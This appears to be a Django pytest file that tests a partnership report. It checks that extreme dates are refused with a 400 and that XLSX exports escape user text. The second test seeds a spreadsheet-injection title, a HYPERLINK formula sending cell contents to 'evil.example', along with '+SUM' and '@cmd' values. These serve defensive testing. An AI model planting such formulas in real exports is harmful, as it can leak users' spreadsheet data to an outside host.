"""Review findings: extreme dates give a clear 400, never a 500."""

import pytest

from .conftest import user_of

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "url",
    [
        "/reporting/partnerships/xtex/report/?from=2026-01-01&to=9999-12-31&format=xlsx",
        "/reporting/partnerships/xtex/report/?from=0001-01-01&to=2026-11-22&format=pdf",
        "/reporting/partnerships/xtex/report/print/?from=0001-01-01&to=9999-12-31",
        "/api/reporting/partnerships/xtex/report?from=0001-01-01&to=2026-11-22",
        "/api/partnerships/xtex/kpis?as_of=9999-12-31",
    ],
)
def test_dates_at_the_ends_of_the_calendar_are_refused_not_a_500(client, world, url):
    client.force_login(user_of(world, "coordinator"))
    response = client.get(url)
    assert response.status_code == 400
    assert "Give a date between 1900-01-01 and 2999-12-31." in response.content.decode()


def test_user_text_in_the_xlsx_report_is_text_never_a_formula(client, world):
    import io

    from openpyxl import load_workbook

    from .conftest import activity

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open the evidence")'
    activity(world.p, "training", "2026-05-04", title=hostile)
    activity(world.p, "training", "2026-05-05", title="+SUM(1,1)")
    activity(world.p, "training", "2026-05-06", title="@cmd")
    client.force_login(user_of(world, "coordinator"))
    response = client.get(
        "/reporting/partnerships/xtex/report/?from=2026-01-01&to=2026-11-22&format=xlsx"
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    titles = [c for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    assert titles, "the activity is in the report"
    assert all(c.data_type != "f" for c in cells)
    shown = {str(c.value) for c in cells}
    assert any(hostile in text for text in shown)  # the title still reads as written
